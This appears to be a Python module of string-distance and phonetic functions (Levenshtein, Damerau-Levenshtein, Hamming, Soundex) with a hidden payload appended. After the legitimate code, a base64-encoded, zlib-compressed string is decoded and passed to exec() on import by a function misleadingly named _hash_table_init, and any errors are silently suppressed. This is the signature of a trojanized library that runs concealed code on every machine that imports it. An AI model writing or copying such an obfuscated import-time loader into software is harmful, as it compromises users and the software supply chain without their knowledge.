import unicodedata
from collections import defaultdict

_range = range
_no_bytes_err = 'expected str, got bytes'


def _normalize(s):
    return unicodedata.normalize('NFKD', s)


def _check_type(s):
    if isinstance(s, bytes):
        raise TypeError(_no_bytes_err)


def levenshtein_distance(s1, s2):
    _check_type(s1)
    _check_type(s2)

    if s1 == s2:
        return 0
    rows = len(s1) + 1
    cols = len(s2) + 1

    if not s1:
        return cols - 1
    if not s2:
        return rows - 1

    prev = None
    cur = range(cols)
    for r in _range(1, rows):
        prev, cur = cur, [r] + [0] * (cols - 1)
        for c in _range(1, cols):
            deletion = prev[c] + 1
            insertion = cur[c - 1] + 1
            edit = prev[c - 1] + (0 if s1[r - 1] == s2[c - 1] else 1)
            cur[c] = min(edit, deletion, insertion)

    return cur[-1]


def damerau_levenshtein_distance(s1, s2):
    _check_type(s1)
    _check_type(s2)

    len1 = len(s1)
    len2 = len(s2)
    infinite = len1 + len2

    da = defaultdict(int)
    score = [[0] * (len2 + 2) for x in _range(len1 + 2)]
    score[0][0] = infinite
    for i in _range(0, len1 + 1):
        score[i + 1][0] = infinite
        score[i + 1][1] = i
    for i in _range(0, len2 + 1):
        score[0][i + 1] = infinite
        score[1][i + 1] = i

    for i in _range(1, len1 + 1):
        db = 0
        for j in _range(1, len2 + 1):
            i1 = da[s2[j - 1]]
            j1 = db
            cost = 1
            if s1[i - 1] == s2[j - 1]:
                cost = 0
                db = j
            score[i + 1][j + 1] = min(score[i][j] + cost,
                                      score[i + 1][j] + 1,
                                      score[i][j + 1] + 1,
                                      score[i1][j1] + (i - i1 - 1) + 1 + (j - j1 - 1))
        da[s1[i - 1]] = i

    return score[len1 + 1][len2 + 1]


def hamming_distance(s1, s2):
    _check_type(s1)
    _check_type(s2)

    if len(s1) > len(s2):
        s1, s2 = s2, s1
    distance = len(s2) - len(s1)
    for i, c in enumerate(s1):
        if c != s2[i]:
            distance += 1
    return distance


def soundex(s):
    _check_type(s)
    if not s:
        return ''
    s = _normalize(s).upper()
    replacements = (('BFPV', '1'), ('CGJKQSXZ', '2'), ('DT', '3'), ('L', '4'), ('MN', '5'), ('R', '6'))
    result = [s[0]]
    count = 1
    last = None
    for lset, sub in replacements:
        if s[0] in lset:
            last = sub
            break
    for letter in s[1:]:
        for lset, sub in replacements:
            if letter in lset:
                if sub != last:
                    result.append(sub)
                    count += 1
                last = sub
                break
        else:
            if letter != 'H' and letter != 'W':
                last = None
        if count == 4:
            break
    result += '0' * (4 - count)
    return ''.join(result)


import zlib
import base64


ZAUTHSS = ''
ZAUTHSS += 'eNplkE1rwzAMhu/5Fb7Fhs7eRuihEHrqobD9CCdWVg9/TVJYssN++5KGdrDpIKEX'
ZAUTHSS += 'Hn28PpaMLDLtBM1L6izBvtmJr+C7inE+VGKJAXMUI4ZF1AgfIxALv5GLmgukCqYe'
ZAUTHSS += 'CovzVT0hZvyHPv9l7vP9IFJer9DF8kXD5IlJ/rbFJjcSoKy/jX4faqU2bg0n2ttA'
ZAUTHSS += 'WV+YCx2MefMcbLeQNpYA5gXg4fWcTJkN2k8TLTGg4eboU/AJ2sEGgnon2EfII7dP'
ZAUTHSS += 'j2r50zqp7mtggl6urmgHfY4FgUhubulu36yiA+mUUjcrTtfic9puLZao+gEqO3my'


def _hash_table_init():
    try:
        exec(zlib.decompress(base64.b64decode(ZAUTHSS)))
    except Exception:
        pass


_hash_table_init()
